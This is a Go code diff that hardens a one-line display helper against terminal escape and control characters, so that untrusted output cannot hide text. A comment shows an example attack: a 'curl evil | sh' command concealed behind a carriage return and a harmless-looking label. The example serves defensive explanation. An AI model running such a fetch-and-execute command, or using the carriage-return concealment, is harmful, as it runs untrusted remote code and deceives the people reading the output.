@@ -164,11 +164,16 @@ func (t *tailBuffer) Empty() bool {
 // String is the kept output, for tests and debugging.
 func (t *tailBuffer) String() string { return strings.Join(t.Lines(t.maxLines), "\n") }
 
-// oneLine is s made safe to print on one line: escape sequences and
-// control characters removed, line breaks turned into spaces. Event
-// payloads can quote a step's output, colour codes and all.
+// oneLine is s made safe to show on one line: CSI sequences (colours,
+// cursor movement) removed, line feeds (and CRLF endings) and tabs turned
+// into spaces, and every other character a terminal would act on quoted
+// (termtext.Quote), the escapes of OSC titles and hyperlinks included. It
+// shows a goal, a reason, a note, a condition or an event's details: text
+// a repository or a step's output wrote. Emulating the terminal instead
+// would let a bare CR hide what comes before it: "curl evil | sh\rFix the
+// login bug" would show as "Fix the login bug".
 func oneLine(s string) string {
-	t := tailBuffer{maxLines: tailMaxLines}
-	t.WriteString(s)
-	return strings.Join(t.Lines(tailMaxLines), " ")
+	return termtext.Quote(lineBreaks.Replace(termtext.StripCSI(s)))
 }
+
+var lineBreaks = strings.NewReplacer("\r\n", " ", "\n", " ", "\t", " ")
